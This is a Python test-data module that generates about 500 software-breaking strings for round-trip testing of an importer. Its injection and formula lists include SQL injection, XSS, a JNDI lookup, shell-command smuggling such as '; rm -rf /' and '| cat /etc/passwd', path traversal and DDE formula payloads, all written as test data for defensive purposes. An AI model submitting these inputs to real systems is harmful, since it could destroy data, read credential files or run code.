"""A corpus of about 500 strings that break software, by category, written and generated here.

The categories follow those of the public "Big List of Naughty Strings" (control characters,
Unicode oddities, injection, reserved words, numbers as text, ...); the strings themselves are
this project's own. Each entry is (category, text). Many control and format characters are
put inside an ordinary name ("Ann<c>Lee"), so a string that loses its odd character still
differs from the original and a lossy round trip shows.

Lone surrogates can exist in a Python string but not in a UTF-8 file or a SQLite text value;
they are in ``UNSTORABLE`` (an importer must refuse them, naming row and column) and are not
part of ``CORPUS``.
"""

from __future__ import annotations

import random
import unicodedata

_rng = random.Random(22)  # a fixed seed: the same corpus on every run


def _around(c: str) -> str:
    return f"Ann{c}Lee"


def _controls() -> list[tuple[str, str]]:
    out = []
    for code in range(0x00, 0x20):  # every C0 control
        c = chr(code)
        out.append(("c0", _around(c)))
        out.append(("c0 at the ends", f"{c}Bo{c}"))
    out.append(("c0", "".join(chr(code) for code in range(0x01, 0x20)) + " all of C0"))
    for code in range(0x7F, 0xA0):  # DEL and every C1 control
        out.append(("c1", _around(chr(code))))
    return out


def _noncharacters() -> list[tuple[str, str]]:
    texts = ["\ufffe", "\uffff", "\ufffd", "\ufeff", "\ufdd0", "\ufdef", "\U0001fffe", "\U0010ffff",
             "\U000e0001", "\U000f0000"]
    out = [("noncharacter", _around(c)) for c in texts]
    out += [("noncharacter", "\ufffe\uffff"), ("noncharacter", "\ufeffLeading byte order mark"),
            ("noncharacter", "_\uffff_x\ufffe_")]
    return out


def _invisible() -> list[tuple[str, str]]:
    format_chars = ["\u00ad", "\u034f", "\u061c", "\u115f", "\u1160", "\u17b4", "\u180e", "\u200b",
                    "\u200c", "\u200d", "\u200e", "\u200f", "\u202a", "\u202b", "\u202c", "\u202d",
                    "\u202e", "\u2060", "\u2061", "\u2062", "\u2063", "\u2064", "\u2066", "\u2067",
                    "\u2068", "\u2069", "\u206a", "\u206f", "\u3164", "\uffa0", "\U0001d173"]
    out = [("zero-width or bidi", _around(c)) for c in format_chars]
    out += [
        ("zero-width or bidi", "\u202eevil.exe\u202c"),
        ("zero-width or bidi", "Invoice \u202egnp.exe"),
        ("zero-width or bidi", "\u2067Marta\u2069 \u2066Lopez\u2069"),
        ("zero-width or bidi", "\u200b"),
        ("zero-width or bidi", "\u200b\u200c\u200d\u2060"),
        ("zero-width or bidi", "Team\u200b"),
        ("zero-width or bidi", "\u200fRight to left mark first"),
    ]
    return out


def _whitespace() -> list[tuple[str, str]]:
    spaces = ["\u0009", "\u000b", "\u000c", "\u0020", "\u0085", "\u00a0", "\u1680", "\u2000", "\u2001",
              "\u2002", "\u2003", "\u2004", "\u2005", "\u2006", "\u2007", "\u2008", "\u2009", "\u200a",
              "\u2028", "\u2029", "\u202f", "\u205f", "\u3000"]
    out = [("unicode space", f"Mid{s}dle") for s in spaces]
    out += [("whitespace only", s * 3) for s in (" ", "\t", "\n", "\r\n", "\u00a0", "\u3000", "\u2028")]
    out += [("whitespace only", " \t\n\r\u000b\u000c"), ("whitespace only", "")]
    out += [("whitespace around", "  padded  "), ("whitespace around", "\ttabbed\t"),
            ("line breaks", "first line\nsecond line"), ("line breaks", "first\r\nsecond"),
            ("line breaks", "old mac\rline"), ("line breaks", "\n\nthird\n\n"), ("line breaks", "a\n\rb")]
    return out


def _scripts() -> list[tuple[str, str]]:
    return [
        ("right to left", "\u0633\u0627\u0631\u0629 \u0627\u0644\u0639\u0644\u064a"),  # Arabic
        ("right to left", "\u05d3\u05d5\u05d3 \u05dc\u05d5\u05d9"),  # Hebrew
        ("right to left", "\u0645\u0631\u06a9\u0632 \u062e\u062f\u0645\u0627\u062a 42"),  # Persian + digits
        ("right to left", "Team \u05e2\u05d1\u05e8\u05d9\u05ea (2)"),
        ("right to left", "\u0627\u0644\u0641\u0631\u064a\u0642 \u0661\u0662\u0663"),  # Arabic-Indic digits
        ("right to left", "\u0712\u0720\u0710"),  # Syriac
        ("right to left", "\u078b\u07a8\u0788\u07ac\u0780\u07a8"),  # Thaana
        ("right to left", "\u07d2\u07de\u07cf"),  # N'Ko
        ("right to left", "abc \u05d0\u05d1\u05d2 def \u0627\u0628\u062a"),
        ("right to left", "\u0644\u0627 \u0625\u0644\u0647\u200d"),
        ("other scripts", "\u7530\u4e2d \u592a\u90ce"),  # Japanese
        ("other scripts", "\uc774\uc9c0\uc740"),  # Korean
        ("other scripts", "\u0e2a\u0e21\u0e0a\u0e32\u0e22"),  # Thai
        ("other scripts", "\u0926\u0947\u0935\u0928\u093e\u0917\u0930\u0940"),  # Devanagari
        ("other scripts", "\u1200\u1208\u1218"),  # Ethiopic
        ("other scripts", "\u13a0\u13a1\u13a2"),  # Cherokee
        ("other scripts", "\U00020000\U0002a6d6"),  # CJK extension B, astral
        ("other scripts", "\U0001d504\U0001d52c\U0001d530"),  # mathematical Fraktur
        ("other scripts", "\u0130stanbul \u0131"),  # Turkish dotted and dotless i
        ("other scripts", "Stra\u00dfe"), ("other scripts", "STRASSE"),
        ("other scripts", "\u03a3\u03bf\u03c6\u03af\u03b1 \u03c3\u03c2"),  # Greek with final sigma
        ("other scripts", "\u2126hm \u03a9hm"),  # Ohm sign vs Omega
        ("other scripts", "\ufb01nance \ufb02ow"),  # ligatures
        ("other scripts", "\uff21\uff42\uff43\uff11\uff12"),  # full-width letters and digits
        ("other scripts", "\u2460\u2461 \u2160\u2161 \u00bd"),
    ]


def _combining() -> list[tuple[str, str]]:
    marks = [chr(c) for c in range(0x0300, 0x036F)]
    out = []
    for n in (1, 3, 8, 20, 60):
        for word in ("Zoe", "Team"):
            out.append(("combining", "".join(ch + "".join(_rng.choice(marks) for _ in range(n)) for ch in word)))
    out += [("combining", "\u0301 starts with a mark"), ("combining", "e" + "\u0301" * 200),
            ("combining", "\u0e01\u0e34\u0e4a\u0e4a\u0e4a\u0e4a"), ("combining", "a\u20dd \u20e3")]
    return out


def _emoji() -> list[tuple[str, str]]:
    return [("emoji", t) for t in (
        "\U0001f600", "Team \U0001f680", "\U0001f44d\U0001f3fd", "\U0001f469\u200d\U0001f4bb",
        "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", "\U0001f3f3\ufe0f\u200d\U0001f308",
        "\U0001f1ec\U0001f1e7\U0001f1e9\U0001f1ea", "\U0001f1e6", "1\ufe0f\u20e3#\ufe0f\u20e3",
        "\u2764\ufe0f\u2764\ufe0e", "\U0001f9d1\U0001f3ff\u200d\U0001f91d\u200d\U0001f9d1\U0001f3fb",
        "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f", "\u200d\U0001f600\u200d",
        "\U0001f4a9" * 40, "\u2603\u2614\u26a1", "\U0001fae0 melting", "\U0001f937\u200d\u2640\ufe0f",
        "\ud83d\ude00 as a surrogate pair".encode("utf-16", "surrogatepass").decode("utf-16"),
        "\u00a9\u00ae\u2122", "\U0001f170\U0001f171",
    )]


def _normalisation() -> list[tuple[str, str]]:
    names = ["Ren\u00e9e", "Jos\u00e9 Mu\u00f1oz", "Zo\u00eb", "\u00c5sa \u00d6berg", "Nguy\u1ec5n",
             "\u1e9e\u00e4\u00ff", "\ud55c\uad6d", "\u00c7a\u011fla", "\u01c5ebo", "\u212b"]
    out = []
    for name in names:
        out.append(("NFC", unicodedata.normalize("NFC", name)))
        out.append(("NFD", unicodedata.normalize("NFD", name)))
    out += [("NFKC", unicodedata.normalize("NFKC", "\ufb01\u2460\uff21")),
            ("NFKD", unicodedata.normalize("NFKD", "\ufb01\u2460\uff21"))]
    return out


def _formulas() -> list[tuple[str, str]]:
    texts = [
        "=1+1", "=SUM(A1:A9)", "+1", "-1", "@SUM(1,2)", "\t=1", "\r=1", "=", "+", "-", "@", "==",
        "=HYPERLINK(\"http://example.invalid\",\"click\")", "=cmd|' /C notepad'!A1",
        "=WEBSERVICE(\"http://example.invalid\")", "-2+3", "+44 20 7946 0000", "@handle",
        "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201", "=1\n=2", "'=1", "DDE(\"cmd\";\"/c calc\";\"x\")",
        "=IMPORTXML(A1)", " =1", "=A1&\"x\"", "{=1}", "=\u0000",
    ]
    return [("formula start", t) for t in texts]


def _injection() -> list[tuple[str, str]]:
    texts = [
        "'; DROP TABLE people; --", "\" OR 1=1 --", "1' OR '1'='1", "Robert'); DELETE FROM teams;--",
        "admin'--", "%' AND 1=1 AND '%'='", "'; ATTACH DATABASE 'x' AS y; --", "\\'; SELECT 1; --",
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)",
        "\"><svg onload=alert(1)>", "</sheetData>", "<c r=\"A1\"><v>1</v></c>", "]]>", "<![CDATA[x]]>",
        "<?xml version=\"1.0\"?>", "<!DOCTYPE x [<!ENTITY a \"b\">]>", "&amp;", "&lt;&gt;&quot;&apos;",
        "&#0;", "&#x1;", "&#xFFFE;", "&nonexistent;", "<x xmlns=\"urn:x\"/>", "${jndi:ldap://x.invalid/a}",
        "{{7*7}}", "<%= 7*7 %>", "$(touch /tmp/x)", "`id`", "; rm -rf /", "| cat /etc/passwd",
        "../../../etc/passwd", "..\\..\\windows\\win.ini", "C:\\Users\\x", "\\\\server\\share",
        "file:///etc/passwd", "%s%s%s%n", "%d %x %p", "{0} {1}", "%(name)s", "\\x00\\u0000\\n",
        "\\", "\\\\", "\"", "''", "\"\"\"", "`", "$HOME", "%PATH%",
        "$x^2$", "$\\notacommand$", "a $ b $ c", "$$", "$\\frac{1}{$", "\\(x\\)", "$_$",
    ]
    return [("injection", t) for t in texts]


def _ooxml_escapes() -> list[tuple[str, str]]:
    texts = ["_x0000_", "_x000B_", "_x000b_", "_x005F_", "_x005F_x0041_", "_xD800_", "_xFFFF_", "_x41_",
             "_x0041", "x0041_", "__x0041__", "_X0041_", "_x004G_", "a_x0009_b", "_x000D__x000A_",
             "_x_", "___x1234____", "_xffff_x0001_"]
    return [("ooxml escape lookalike", t) for t in texts]


def _reserved() -> list[tuple[str, str]]:
    texts = [
        "NULL", "null", "Null", "None", "none", "nil", "NIL", "undefined", "NaN", "nan", "Infinity",
        "-Infinity", "inf", "true", "false", "True", "False", "TRUE", "FALSE", "yes", "no", "Yes",
        "on", "off", "#N/A", "#REF!", "#DIV/0!", "#VALUE!", "#NAME?", "#NULL!", "void", "(null)",
        "[object Object]", "__proto__", "constructor", "hasOwnProperty", "SELECT", "rowid", "_rowid_",
        "History", "Summary", "About", "Training", "Sheet1", "CON", "PRN", "AUX", "NUL", "COM1", "LPT1",
        "desktop.ini", ".", "..", "~", "[Sheet]", "a/b", "a:b*c?", "'quoted'",
    ]
    return [("reserved word", t) for t in texts]


def _numbers() -> list[tuple[str, str]]:
    texts = [
        "0", "1", "-1", "00", "007", "0.0", "1.0", "-0", "+0", "1e3", "1E309", "-1e-309", "0x1F", "0b101",
        "0o17", "1,000", "1.000,50", "1 000", "123456789012345678901234567890", "3.14159265358979323846",
        "9007199254740993", "-9223372036854775809", "1/2", "50%", "$1.00", "\u20ac5", "\u00a35", "2026-01-01",
        "01/02/2026", "12:30", "1:2:3", "\u0661\u0662\u0663", "\u0967\u0968", "\uff11\uff12\uff13", "\u2155",
        "IV", "0.1+0.2", "1_000", "\u221e", "-\u221e", "1.7976931348623157e+308", "5e-324", "44197",
    ]
    return [("number as text", t) for t in texts]


def _long() -> list[tuple[str, str]]:
    return [
        ("long", "A" * 255), ("long", "B" * 256), ("long", "C" * 1024), ("long", "x" * 9_999),
        ("long", "Words and more words " * 400), ("long", "\u00e9" * 5_000),
        ("long", "\U0001f600" * 2_000), ("long", "line\n" * 1_000), ("long", "_x0001_" * 1_000),
        ("long", "\u0000\u0001" * 2_000), ("long", "\u05d0a" * 3_000), ("long", "=" * 10_000),
    ]


def _mixed() -> list[tuple[str, str]]:
    """Strings that combine categories, generated from a fixed seed."""
    pool = ([chr(c) for c in range(0x00, 0x20)] + ["\ufffe", "\uffff", "\u202e", "\u200d", "_x0001_",
            "&", "<", ">", "\"", "'", "=", "\U0001f600", "\u0301", "\u05d0", " ", "\u00a0", "_"]
            + list("abcXYZ019"))
    return [("mixed", "".join(_rng.choice(pool) for _ in range(_rng.randint(2, 40)))) for _ in range(60)]


def _build() -> list[tuple[str, str]]:
    out: list[tuple[str, str]] = []
    seen: set[str] = set()
    for part in (_controls, _noncharacters, _invisible, _whitespace, _scripts, _combining, _emoji,
                 _normalisation, _formulas, _injection, _ooxml_escapes, _reserved, _numbers, _long,
                 _mixed):
        for category, text in part():
            if text not in seen:
                seen.add(text)
                out.append((category, text))
    return out


CORPUS: list[tuple[str, str]] = _build()

UNSTORABLE: list[tuple[str, str]] = [
    ("lone surrogate", _around("\ud800")), ("lone surrogate", _around("\udfff")),
    ("lone surrogate", "\udc00\ud800"), ("lone surrogate", "\ud83d"), ("lone surrogate", "end\udbff"),
]
"""Not text at all: no UTF-8 file and no SQLite text value can hold these."""

XML_FORBIDDEN = frozenset(
    [chr(c) for c in range(0x20) if c not in (0x09, 0x0A, 0x0D)] + ["\ufffe", "\uffff"])
"""Characters a string may hold that XML 1.0 cannot carry (surrogates aside)."""
